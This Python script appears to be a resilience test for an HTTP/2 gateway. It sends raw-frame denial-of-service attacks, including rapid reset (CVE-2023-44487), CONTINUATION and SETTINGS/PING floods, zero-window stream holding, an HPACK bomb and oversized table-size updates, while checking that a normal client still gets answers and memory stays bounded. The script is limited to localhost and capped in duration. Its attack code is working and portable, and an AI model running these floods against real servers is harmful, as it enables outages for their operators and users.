#!/usr/bin/env python3
"""HTTP/2 attacks against a tokengate public listener, frame by frame.

Each attack speaks raw HTTP/2 (hyperframe frames, hpack blocks, from the
`h2` package) over TLS with ALPN h2, against 127.0.0.1 only. While it runs, a
normal client keeps asking GET /healthz (a fresh HTTPS connection each time,
alternating HTTP/1.1 and HTTP/2, from 127.0.0.2: another client than the
attacker, as the gateway's per-client limits see it); the attack passes when

  * every one of those requests succeeds, during the attack and after it, and
  * the gateway's resident memory (VmRSS of --pid, sampled every 50 ms) grows
    by less than --rss-bound-mib, at its peak during the attack and after it.

Every attack is bounded in time (--duration, at most 15 s, then a few seconds
to close its connections: under 20 s in all), in frames and in connections,
and stops by itself. One line per attack is printed; the exit
status is non-zero when any attack failed.

Attacks (--attack NAME, or all):
  rapid_reset         HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)
  continuation_flood  HEADERS without END_HEADERS, then endless CONTINUATION frames
  settings_flood      thousands of SETTINGS frames, never reading the ACKs
  ping_flood          thousands of PING frames, never reading the ACKs
  zero_window         SETTINGS_INITIAL_WINDOW_SIZE=0, large responses, never a WINDOW_UPDATE
  hpack_bomb          one large header in the dynamic table, then referenced 1 byte at a time
  header_table_size   SETTINGS_HEADER_TABLE_SIZE=2^32-1 with distinct large response
                      headers, then table size updates beyond what the server allows

The attacks that need the upstream (rapid_reset when a token is given,
zero_window, header_table_size) send `Authorization: Bearer --token` and expect
the upstream to answer `--big-path` with a large body and to copy the request
header `x-echo` into its response.
"""

from __future__ import annotations

import argparse
import os
import socket
import ssl
import statistics
import sys
import threading
import time
from collections import Counter

import h2.config
import h2.connection
import h2.errors
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

HOST = "127.0.0.1"  # never anything else
NORMAL_SOURCE = "127.0.0.2"  # the normal client's own address (Linux answers all of 127/8)
SNI = "localhost"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_DURATION = 15.0  # plus at most a few seconds of closing: under 20 s in all
MAX_FRAMES = 3_000_000  # per attack
MAX_CONNECTIONS = 3_000  # per attack
MAX_HELD = 32  # stalled connections kept open at once by the floods
FRAME_MAX = 16_384  # SETTINGS_MAX_FRAME_SIZE default; the gateway keeps it
SEND_TIMEOUT = 2.0  # a send blocked this long: the server stopped reading

# Frame types, for the reader.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9

ATTACKS = [
    "rapid_reset",
    "continuation_flood",
    "settings_flood",
    "ping_flood",
    "zero_window",
    "hpack_bomb",
    "header_table_size",
]


def mib(kib: int) -> str:
    return f"{kib / 1024:.1f}MiB"


def error_name(code: int) -> str:
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def read_proc_status(pid: int) -> dict[str, int]:
    out = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(("VmRSS:", "VmHWM:")):
                k, v = line.split(":", 1)
                out[k] = int(v.split()[0])  # kB
    return out


def rss_kib(pid: int) -> int:
    return read_proc_status(pid)["VmRSS"]


class Failure(Exception):
    pass


def tls_context(args, alpn: str) -> ssl.SSLContext:
    if args.insecure:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    else:
        ctx = ssl.create_default_context(cafile=args.cafile)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_2
    ctx.set_alpn_protocols([alpn])
    return ctx


# --------------------------------------------------------------------------
# The server's side of a connection, as far as an attacker looks at it.


class Reader:
    """Parses what the server sent: GOAWAY codes, resets, statuses, settings."""

    def __init__(self, table_size_limit: int = 4096):
        self.buf = bytearray()
        self.frames = Counter()
        self.goaway: list[str] = []
        self.resets = Counter()
        self.statuses = Counter()
        self.data_bytes = 0
        self.server_settings: dict[int, int] = {}
        self.settings_seen = 0
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = table_size_limit
        self.block = bytearray()
        self.undecodable = 0
        self.echoed = 0

    def feed(self, data: bytes) -> None:
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            payload = bytes(self.buf[9 : 9 + length])
            del self.buf[: 9 + length]
            self.frames[ftype] += 1
            if ftype == GOAWAY and len(payload) >= 8:
                self.goaway.append(error_name(int.from_bytes(payload[4:8], "big")))
            elif ftype == RST_STREAM and len(payload) >= 4:
                self.resets[error_name(int.from_bytes(payload[0:4], "big"))] += 1
            elif ftype == DATA:
                self.data_bytes += length
            elif ftype == SETTINGS and not flags & 0x1:
                self.settings_seen += 1
                for i in range(0, len(payload) - 5, 6):
                    self.server_settings[int.from_bytes(payload[i : i + 2], "big")] = (
                        int.from_bytes(payload[i + 2 : i + 6], "big")
                    )
            elif ftype in (HEADERS, CONTINUATION):
                if ftype == HEADERS:
                    if flags & 0x8:  # PADDED
                        pad = payload[0]
                        payload = payload[1 : len(payload) - pad]
                    if flags & 0x20:  # PRIORITY
                        payload = payload[5:]
                    self.block = bytearray(payload)
                else:
                    self.block += payload
                if flags & 0x4:  # END_HEADERS
                    try:
                        for name, value in self.decoder.decode(bytes(self.block)):
                            if name == ":status":
                                self.statuses[value] += 1
                            elif name == "x-echo":
                                self.echoed += 1
                    except Exception:  # noqa: BLE001 - only counted
                        self.undecodable += 1
                    self.block = bytearray()


class Conn:
    """One attacker connection: TLS + ALPN h2, preface and SETTINGS sent."""

    def __init__(self, args, ctx, settings=None, window_update=True, table_size_limit=4096):
        tcp = socket.create_connection((HOST, args.port), timeout=5)
        self.sock = ctx.wrap_socket(tcp, server_hostname=SNI)
        if self.sock.selected_alpn_protocol() != "h2":
            raise Failure(f"ALPN negotiated {self.sock.selected_alpn_protocol()!r}, not h2")
        self.sock.settimeout(SEND_TIMEOUT)
        self.reader = Reader(table_size_limit)
        self.closed = False
        self.stalled = False
        first = PREFACE + SettingsFrame(0, settings=settings or {}).serialize()
        if window_update:
            # Open the connection window wide, so small answers never block.
            first += WindowUpdateFrame(0, window_increment=2**31 - 1 - 65_535).serialize()
        self.sock.sendall(first)

    def send(self, data: bytes) -> bool:
        """False when the server closed the connection or stopped reading."""
        if self.closed or self.stalled:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (socket.timeout, TimeoutError):
            self.stalled = True
        except (OSError, ssl.SSLError):
            self.closed = True
        return False

    def poll(self, wait: float = 0.0, max_bytes: int = 1 << 20, force: bool = False) -> None:
        """Reads what has arrived without blocking the attack: waits up to `wait`
        seconds for the first bytes, then takes only what is already there.
        `force` reads even after a failed send (a GOAWAY may be waiting)."""
        if self.closed and not force:
            return
        got = 0
        try:
            self.sock.settimeout(wait if wait > 0 else 0.0)
            while got < max_bytes:
                try:
                    data = self.sock.recv(65_536)
                except (ssl.SSLWantReadError, BlockingIOError, socket.timeout, TimeoutError):
                    break
                if not data:
                    self.closed = True
                    break
                got += len(data)
                self.reader.feed(data)
                if self.reader.goaway:
                    self.closed = True
                self.sock.settimeout(0.0)
        except (OSError, ssl.SSLError, ValueError):
            self.closed = True
        finally:
            if not self.closed:
                try:
                    self.sock.settimeout(SEND_TIMEOUT)
                except OSError:
                    self.closed = True

    def poll_until(self, done, timeout: float) -> None:
        """Reads until `done(reader)`, the connection ends, or `timeout` seconds."""
        deadline = time.monotonic() + timeout
        while not self.closed and not done(self.reader):
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.poll(wait=min(left, 0.1), max_bytes=8 << 20)

    def ack_server_settings(self) -> None:
        self.poll_until(lambda r: r.settings_seen > 0, 2.0)
        if self.reader.settings_seen:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def header_block(encoder: hpack.Encoder, headers, stateless=True) -> bytes:
    # Never-indexed literals change no table: the same block can be sent again.
    if stateless:
        headers = [(k, v, True) for k, v in headers]
    return encoder.encode(headers, huffman=False)


def request_headers(args, path: str, extra=()) -> list[tuple[str, str]]:
    h = [(":method", "GET"), (":scheme", "https"), (":authority", SNI), (":path", path)]
    if args.token:
        h.append(("authorization", f"Bearer {args.token}"))
    h.extend(extra)
    return h


# --------------------------------------------------------------------------
# Attack bookkeeping.


class Attack:
    def __init__(self, name: str, args):
        self.name = name
        self.args = args
        self.ctx = tls_context(args, "h2")
        self.start = time.monotonic()
        self.deadline = self.start + min(args.duration, MAX_DURATION)
        self.frames = 0
        self.bytes = 0
        self.conns = 0
        self.closed_by_server = 0
        self.stalled = 0
        self.goaway = Counter()
        self.resets = Counter()
        self.statuses = Counter()
        self.data_bytes = 0
        self.notes: list[str] = []
        self.held: list[Conn] = []

    def running(self) -> bool:
        return (
            time.monotonic() < self.deadline
            and self.frames < MAX_FRAMES
            and self.conns < MAX_CONNECTIONS
        )

    def connect(self, **kw) -> Conn:
        self.conns += 1
        return Conn(self.args, self.ctx, **kw)

    def sent(self, n_frames: int, data: bytes) -> None:
        self.frames += n_frames
        self.bytes += len(data)

    def settle(self, c: Conn, read: float = 0.5) -> None:
        """Done with a connection: read what the server said, record it, close."""
        if read > 0:
            c.poll(wait=read, max_bytes=64 << 20, force=True)
        r = c.reader
        self.goaway.update(r.goaway)
        self.resets.update(r.resets)
        self.statuses.update(r.statuses)
        self.data_bytes += r.data_bytes
        if c.stalled:
            self.stalled += 1
        elif c.closed:
            self.closed_by_server += 1
        c.close()

    def hold(self, c: Conn) -> None:
        """Keeps a stalled connection open (bounded) while the attack goes on."""
        self.held.append(c)
        if len(self.held) > MAX_HELD:
            self.settle(self.held.pop(0), read=0.0)

    def finish(self) -> None:
        for c in self.held:
            self.settle(c, read=0.0)
        self.held.clear()

    def summary(self) -> str:
        parts = [f"frames={self.frames}", f"bytes={self.bytes}", f"conns={self.conns}"]
        if self.closed_by_server:
            parts.append(f"closed_by_server={self.closed_by_server}")
        if self.stalled:
            parts.append(f"server_stopped_reading={self.stalled}")
        if self.goaway:
            parts.append("goaway=" + ",".join(f"{k}x{v}" for k, v in self.goaway.most_common()))
        if self.resets:
            parts.append("rst=" + ",".join(f"{k}x{v}" for k, v in self.resets.most_common()))
        if self.statuses:
            parts.append(
                "statuses=" + ",".join(f"{k}x{v}" for k, v in sorted(self.statuses.items()))
            )
        if self.data_bytes:
            parts.append(f"data_received={self.data_bytes}")
        parts.extend(self.notes)
        return " ".join(parts)


# --------------------------------------------------------------------------
# The attacks. Each runs until its deadline or caps, then closes everything.


def rapid_reset(a: Attack) -> None:
    path = "/rapid-reset" if a.args.token else "/healthz"
    enc = hpack.Encoder()
    block = header_block(enc, request_headers(a.args, path))
    batch_streams = 100
    while a.running():
        c = a.connect()
        sid = 1
        while a.running() and not (c.closed or c.stalled) and sid < 2**31 - 2 * batch_streams:
            data = bytearray()
            for _ in range(batch_streams):
                data += HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                data += RstStreamFrame(sid, error_code=8).serialize()  # CANCEL
                sid += 2
            if c.send(bytes(data)):
                a.sent(2 * batch_streams, data)
            c.poll()
        a.settle(c, read=0.2)
    a.notes.append(f"streams_opened_and_reset={a.frames // 2}")


def continuation_flood(a: Attack) -> None:
    # Valid HPACK all along: 128-byte never-indexed literals, 128 per frame, so
    # every fragment is a whole number of header fields.
    field = b"\x10\x0ax-flood-aa\x73" + b"a" * 115
    assert len(field) == 128
    fragment = field * (FRAME_MAX // 128)
    enc = hpack.Encoder()
    first = header_block(enc, request_headers(a.args, "/healthz"))
    batch = 64
    conts = ContinuationFrame(1, fragment).serialize() * batch  # no END_HEADERS, ever
    while a.running():
        c = a.connect()
        head = HeadersFrame(1, first).serialize()  # neither END_HEADERS nor END_STREAM
        if c.send(head):
            a.sent(1, head)
        while a.running() and c.send(conts):
            a.sent(batch, conts)
            c.poll()
        if c.stalled:
            a.hold(c)
        else:
            a.settle(c, read=0.2)
    a.finish()


def frame_flood(a: Attack, one_frame: bytes, batch: int = 1000) -> None:
    """Sends the same frame over and over, reading nothing, never acknowledging."""
    data = one_frame * batch
    while a.running():
        c = a.connect(window_update=False)
        while a.running() and c.send(data):
            a.sent(batch, data)
        if c.stalled:
            a.hold(c)
        else:
            a.settle(c, read=0.2)
    a.finish()


def settings_flood(a: Attack) -> None:
    frame = SettingsFrame(
        0,
        settings={
            SettingsFrame.HEADER_TABLE_SIZE: 4096,
            SettingsFrame.ENABLE_PUSH: 0,
            SettingsFrame.MAX_CONCURRENT_STREAMS: 100,
            SettingsFrame.INITIAL_WINDOW_SIZE: 65_535,
            SettingsFrame.MAX_FRAME_SIZE: 16_384,
            SettingsFrame.MAX_HEADER_LIST_SIZE: 65_536,
        },
    ).serialize()
    frame_flood(a, frame)


def ping_flood(a: Attack) -> None:
    frame_flood(a, PingFrame(0, opaque_data=b"attack!!").serialize())


def zero_window(a: Attack) -> None:
    if not a.args.token:
        raise Failure("zero_window needs --token (a large response comes from the upstream)")
    enc = hpack.Encoder()
    block = header_block(enc, request_headers(a.args, a.args.big_path))
    conns: list[Conn] = []
    opened = 0
    fds = []
    # One connection after the other, each with as many streams as the server
    # allows, each asking for a large answer that can never be sent: the
    # initial stream window is 0 and no WINDOW_UPDATE ever comes.
    while a.running() and len(conns) < a.args.zero_window_conns:
        c = a.connect(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, window_update=False)
        c.ack_server_settings()
        streams = min(c.reader.server_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, 100), 128)
        data = b"".join(
            HeadersFrame(2 * i + 1, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
            for i in range(streams)
        )
        if c.send(data):
            a.sent(streams + 1, data)
            opened += streams
        # Wait for the answers' HEADERS: then every stream holds its answer.
        c.poll_until(
            lambda r, want=streams: sum(r.statuses.values()) + sum(r.resets.values()) >= want,
            min(3.0, max(a.deadline - time.monotonic(), 0.0)),
        )
        conns.append(c)
        fds.append(count_fds(a.args.pid))
    # Hold them all until the deadline, reading (which opens no window).
    while a.running():
        for c in conns:
            c.poll()
        time.sleep(0.2)
    held = sum(c.reader.statuses.get("200", 0) for c in conns if not c.closed)
    a.notes.append(
        f"streams_opened={opened} streams_held_with_200={held} "
        f"conns_closed_by_server={sum(c.closed for c in conns)} "
        f"gateway_fds={fds[0] if fds else '?'}..{max(fds) if fds else '?'}"
    )
    for c in conns:
        a.settle(c, read=0.05)


def count_fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


def hpack_bomb(a: Attack) -> None:
    # One entry as large as the default table allows (32 + 6 + 4000 <= 4096),
    # inserted with incremental indexing, then a block of 1-byte references
    # to it (dynamic index 62 = 0xbe): 16 KiB on the wire, 64 MB decoded.
    big = ("x-bomb", "b" * 4000)
    frames_per_block = 4  # HEADERS + 3 CONTINUATION: 256 MB decoded per request
    while a.running():
        c = a.connect()
        enc = hpack.Encoder()
        insert = enc.encode(request_headers(a.args, "/healthz") + [big], huffman=False)
        data = HeadersFrame(1, insert, flags=["END_HEADERS", "END_STREAM"]).serialize()
        if c.send(data):
            a.sent(1, data)
        base = header_block(enc, request_headers(a.args, "/healthz"))
        sid = 3
        while a.running() and not (c.closed or c.stalled):
            first = base + b"\xbe" * (FRAME_MAX - len(base))
            data = bytearray(HeadersFrame(sid, first, flags=["END_STREAM"]).serialize())
            for i in range(1, frames_per_block):
                last = ["END_HEADERS"] if i == frames_per_block - 1 else []
                data += ContinuationFrame(sid, b"\xbe" * FRAME_MAX, flags=last).serialize()
            if c.send(bytes(data)):
                a.sent(frames_per_block, data)
            sid += 2
            c.poll()
        a.settle(c, read=0.2)
    per_request = (frames_per_block * FRAME_MAX - 200) * (len(big[0]) + len(big[1]))
    a.notes.append(f"decoded_bytes_per_request={per_request}")


def header_table_size(a: Attack) -> None:
    if not a.args.token:
        raise Failure("header_table_size needs --token (the upstream echoes x-echo)")
    # Phase 1: tell the server its HPACK encoder may keep a 4 GiB table, then
    # make every response carry a new 3 KiB header value, 20 requests at a time.
    n = 0
    echoed = 0
    phase1_end = a.start + (a.deadline - a.start) * 0.75
    while a.running() and time.monotonic() < phase1_end:
        c = a.connect(
            settings={SettingsFrame.HEADER_TABLE_SIZE: 2**32 - 1}, table_size_limit=2**32 - 1
        )
        c.ack_server_settings()
        enc = hpack.Encoder()
        sid = 1
        while a.running() and time.monotonic() < phase1_end and not (c.closed or c.stalled):
            data = bytearray()
            for _ in range(20):
                value = f"{n:08d}" + "e" * 3000
                n += 1
                block = header_block(
                    enc, request_headers(a.args, "/echo", [("x-echo", value)]), stateless=False
                )
                data += HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                sid += 2
            if c.send(bytes(data)):
                a.sent(20, data)
            # Wait for these answers before asking more (the stream cap is 128).
            c.poll_until(
                lambda r, want=sid // 2: sum(r.statuses.values()) + sum(r.resets.values()) >= want,
                2.0,
            )
            if sid > 2000:  # a fresh connection (and fresh tables) now and then
                break
        echoed += c.reader.echoed
        a.settle(c, read=0.2)
    a.notes.append(f"distinct_response_headers_asked={n} echoed_back={echoed}")
    # Phase 2: a dynamic table size update far beyond the 4096 the server
    # allows (RFC 7541 §4.2, §6.3): the server must end the connection with an
    # error, not grow a table.
    refused = Counter()
    tries = 0
    while a.running() and tries < 50:
        tries += 1
        c = a.connect()
        enc = hpack.Encoder()
        # 001xxxxx with a 5-bit prefix: dynamic table size update to 2^30.
        update = b"\x3f" + varint_tail(2**30 - 31)
        block = update + header_block(enc, request_headers(a.args, "/healthz"))
        data = HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
        if c.send(data):
            a.sent(1, data)
        c.poll_until(lambda r: bool(r.statuses or r.goaway), 2.0)
        if c.reader.statuses:
            refused["ANSWERED"] += 1
        elif c.reader.goaway:
            refused[c.reader.goaway[0]] += 1
        elif c.closed:
            refused["CLOSED"] += 1
        else:
            refused["NO_REACTION"] += 1
        a.settle(c, read=0.1)
    a.notes.append(
        "oversized_table_update=" + ",".join(f"{k}x{v}" for k, v in refused.most_common())
    )
    accepted = refused["ANSWERED"] + refused["NO_REACTION"] + refused["NO_ERROR"]
    if accepted:
        raise Failure(f"{accepted} of {tries} table size updates to 2^30 were not refused")
    if n and not echoed:
        raise Failure("no response carried x-echo: the test upstream is not the expected one")


def varint_tail(value: int) -> bytes:
    out = bytearray()
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


# --------------------------------------------------------------------------
# The normal client and the memory sampler, both in threads beside the attack.


def probe_connect(args) -> socket.socket:
    return socket.create_connection(
        (HOST, args.port), timeout=args.probe_timeout, source_address=(NORMAL_SOURCE, 0)
    )


def probe_h1(args, ctx) -> None:
    with probe_connect(args) as tcp:
        with ctx.wrap_socket(tcp, server_hostname=SNI) as s:
            s.settimeout(args.probe_timeout)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            got = b""
            while True:
                chunk = s.recv(65_536)
                if not chunk:
                    break
                got += chunk
            if not got.startswith(b"HTTP/1.1 200"):
                raise Failure(f"h1 answer: {got[:60]!r}")


def probe_h2(args, ctx) -> None:
    with probe_connect(args) as tcp:
        with ctx.wrap_socket(tcp, server_hostname=SNI) as s:
            s.settimeout(args.probe_timeout)
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            conn.send_headers(
                1,
                [(":method", "GET"), (":scheme", "https"), (":authority", SNI), (":path", "/healthz")],
                end_stream=True,
            )
            s.sendall(conn.data_to_send())
            status = None
            while True:
                data = s.recv(65_536)
                if not data:
                    raise Failure("h2 connection closed before the answer")
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        status = dict(ev.headers).get(b":status")
                    if isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                        if status != b"200":
                            raise Failure(f"h2 status {status!r}")
                        return
                s.sendall(conn.data_to_send())


class Prober(threading.Thread):
    """GET /healthz every 250 ms on a fresh connection, alternating h1 and h2."""

    def __init__(self, args):
        super().__init__(daemon=True)
        self.args = args
        self.ctx = {"h1": tls_context(args, "http/1.1"), "h2": tls_context(args, "h2")}
        self.stop = threading.Event()
        self.results: list[tuple[str, bool, float, str]] = []

    def once(self, kind: str) -> tuple[str, bool, float, str]:
        t0 = time.monotonic()
        try:
            (probe_h1 if kind == "h1" else probe_h2)(self.args, self.ctx[kind])
            return (kind, True, time.monotonic() - t0, "")
        except Exception as e:  # noqa: BLE001 - every failure is a finding
            return (kind, False, time.monotonic() - t0, f"{type(e).__name__}: {e}")

    def run(self) -> None:
        i = 0
        while not self.stop.is_set():
            self.results.append(self.once("h1" if i % 2 == 0 else "h2"))
            i += 1
            self.stop.wait(0.25)


class Sampler(threading.Thread):
    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.pid = pid
        self.peak = rss_kib(pid)
        self.stop = threading.Event()

    def run(self) -> None:
        while not self.stop.is_set():
            self.peak = max(self.peak, rss_kib(self.pid))
            self.stop.wait(0.05)


def latency_text(results) -> str:
    lat = [r[2] * 1000 for r in results if r[1]]
    if not lat:
        return "latency n/a"
    return f"latency p50={statistics.median(lat):.0f}ms max={max(lat):.0f}ms"


def run_attack(name: str, args) -> bool:
    fn = globals()[name]
    prober = Prober(args)
    # A warm-up request, so the baseline includes what one normal client costs.
    warm = prober.once("h2")
    if not warm[1]:
        print(f"{name}: FAIL the gateway does not answer before the attack: {warm[3]}")
        return False
    before = rss_kib(args.pid)
    sampler = Sampler(args.pid)
    sampler.start()
    prober.start()
    a = Attack(name, args)
    error = ""
    try:
        fn(a)
    except Failure as e:
        error = str(e)
    except Exception as e:  # noqa: BLE001 - reported, not hidden
        error = f"attack client error: {type(e).__name__}: {e}"
    finally:
        for c in a.held:
            c.close()
    elapsed = time.monotonic() - a.start
    prober.stop.set()
    prober.join(timeout=args.probe_timeout + 5)
    during = list(prober.results)
    # After: the attacker is gone; the gateway must answer and give memory back
    # or at least not keep growing.
    time.sleep(1.0)
    after_probes = [prober.once(k) for k in ("h1", "h2", "h1", "h2")]
    sampler.stop.set()
    sampler.join()
    after = rss_kib(args.pid)
    peak = max(sampler.peak, after)
    bound = args.rss_bound_mib * 1024

    failures = []
    if error:
        failures.append(error)
    bad = [r for r in during if not r[1]]
    if not during:
        failures.append("no normal request completed during the attack")
    if bad:
        failures.append(
            f"{len(bad)}/{len(during)} normal requests failed during the attack "
            f"(first: {bad[0][0]} after {bad[0][2]:.1f}s: {bad[0][3]})"
        )
    bad_after = [r for r in after_probes if not r[1]]
    if bad_after:
        failures.append(
            f"{len(bad_after)}/4 normal requests failed after the attack (first: {bad_after[0][3]})"
        )
    if peak - before >= bound:
        failures.append(f"RSS grew by {mib(peak - before)} at its peak (bound {args.rss_bound_mib} MiB)")
    if after - before >= bound:
        failures.append(f"RSS grew by {mib(after - before)} after the attack (bound {args.rss_bound_mib} MiB)")

    ok_during = len(during) - len(bad)
    line = (
        f"{name}: {'PASS' if not failures else 'FAIL'} {a.summary()} "
        f"rate={a.frames / max(elapsed, 0.001):.0f}frames/s time={elapsed:.1f}s "
        f"rss_before={mib(before)} rss_peak={mib(peak)} rss_after={mib(after)} "
        f"normal_client={ok_during}/{len(during)}ok {latency_text(during)} "
        f"after={len(after_probes) - len(bad_after)}/4ok {latency_text(after_probes)}"
    )
    print(line, flush=True)
    for f in failures:
        print(f"  {name}: FAILURE: {f}", flush=True)
    return not failures


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, required=True, help="the gateway's public listener on 127.0.0.1")
    trust = p.add_mutually_exclusive_group(required=True)
    trust.add_argument("--cafile", help="the gateway's certificate (PEM) to trust")
    trust.add_argument("--insecure", action="store_true", help="do not verify the certificate")
    p.add_argument("--pid", type=int, required=True, help="the gateway's process, for VmRSS")
    p.add_argument("--attack", default="all", choices=ATTACKS + ["all"])
    p.add_argument("--token", help="an access token, for the attacks that reach the upstream")
    p.add_argument("--big-path", default="/big", help="upstream path with a large response")
    p.add_argument("--duration", type=float, default=8.0, help=f"seconds per attack (at most {MAX_DURATION:.0f})")
    p.add_argument("--rss-bound-mib", type=float, default=100.0)
    p.add_argument("--probe-timeout", type=float, default=5.0, help="seconds a normal request may take")
    p.add_argument("--zero-window-conns", type=int, default=32, help="connections zero_window holds")
    args = p.parse_args()
    if args.duration <= 0 or args.duration > MAX_DURATION:
        p.error(f"--duration must be in (0, {MAX_DURATION:.0f}]")
    if not os.path.exists(f"/proc/{args.pid}/status"):
        p.error(f"no process {args.pid}")
    names = ATTACKS if args.attack == "all" else [args.attack]
    failed = [n for n in names if not run_attack(n, args)]
    if failed:
        print(f"FAILED: {', '.join(failed)}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
